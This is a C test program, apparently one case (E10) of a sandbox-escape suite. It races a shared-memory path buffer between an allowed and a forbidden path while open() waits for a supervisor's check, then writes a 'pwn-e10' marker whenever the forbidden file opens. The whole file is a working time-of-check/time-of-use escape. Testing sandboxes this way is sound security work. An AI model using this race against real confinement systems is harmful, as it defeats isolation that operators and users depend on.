/* E10: the path buffer is in a MAP_SHARED memfd page; a second process (no
 * threads, no ptrace rights) flips it while the first one's open() waits
 * for the supervisor. */
#include "esc.h"
#include <signal.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>

int main(int argc, char **argv)
{
	esc_usage(argc, 4, "e10_shared_flip SECONDS GOOD EVIL");
	static char good[4096], evil[4096];
	double end = esc_now() + atof(argv[1]);
	snprintf(good, sizeof(good), "%s", argv[2]);
	snprintf(evil, sizeof(evil), "%s", argv[3]);
	int m = (int)syscall(SYS_memfd_create, "buf", 0);
	if (m < 0 || ftruncate(m, 4096) < 0)
		return 2;
	char *path = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, m, 0);
	if (path == MAP_FAILED)
		return 2;
	memcpy(path, good, 4096);
	struct esc_id canary = esc_id_of(evil);
	pid_t flipper = fork();
	if (flipper == 0) {
		for (;;) {
			memcpy(path, evil, 4096);
			__asm__ volatile("" ::: "memory"); /* keep both stores */
			memcpy(path, good, 4096);
			__asm__ volatile("" ::: "memory");
		}
	}
	long attempts = 0, ok = 0, hits = 0;
	while (esc_now() < end && !esc_race_done(hits)) {
		attempts++;
		int fd = open(path, O_WRONLY | O_APPEND);
		if (fd < 0)
			continue;
		ok++;
		if (esc_fd_is(fd, canary)) {
			hits++;
			if (write(fd, "pwn-e10\n", 8) < 0)
				perror("write");
		}
		close(fd);
	}
	kill(flipper, SIGKILL);
	waitpid(flipper, NULL, 0);
	esc_race_result(attempts, ok, hits);
	return 0;
}
